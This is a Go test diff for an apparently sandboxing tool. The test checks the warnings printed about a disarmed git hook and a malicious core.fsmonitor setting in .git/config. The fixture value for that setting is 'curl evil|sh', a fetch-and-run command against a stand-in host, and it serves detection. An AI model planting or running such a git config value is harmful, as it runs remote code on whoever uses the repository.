@@ -8,6 +8,7 @@ import (
 
 	"github.com/sandgate/sandgate/config"
 	"github.com/sandgate/sandgate/envfilter"
+	"github.com/sandgate/sandgate/fsview"
 	"github.com/sandgate/sandgate/sandbox"
 )
 
@@ -50,5 +51,26 @@ func withoutSecretEnv(t *testing.T) {
 		v := os.Getenv(k)
 		t.Setenv(k, v) // restored when the test ends
 		os.Unsetenv(k)
+	}
+}
+
+// TestWarnViewChanged: a changed path and each finding of the check after
+// the run are one warning line each on stderr.
+func TestWarnViewChanged(t *testing.T) {
+	var b strings.Builder
+	warnViewChanged(&b, []string{"/ws/.profile"}, []fsview.Finding{
+		{Kind: fsview.FoundHook, Path: "/ws/x/.git/hooks/post-checkout", Why: "git runs it", Disarmed: true},
+		{Kind: fsview.FoundConfigKey, Path: "/ws/x/.git/config", Key: "core.fsmonitor", Value: "curl evil|sh", Count: 1},
+	})
+	lines := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
+	want := []string{"/ws/.profile, which CMD must not write", "chmod +x /ws/x/.git/hooks/post-checkout",
+		"git config --file /ws/x/.git/config --unset core.fsmonitor"}
+	if len(lines) != len(want) {
+		t.Fatalf("%d lines, want %d:\n%s", len(lines), len(want), b.String())
+	}
+	for i, l := range lines {
+		if !strings.HasPrefix(l, "sandgate: warning: ") || !strings.Contains(l, want[i]) {
+			t.Errorf("line %d = %q, want a warning with %q", i, l, want[i])
+		}
 	}
 }
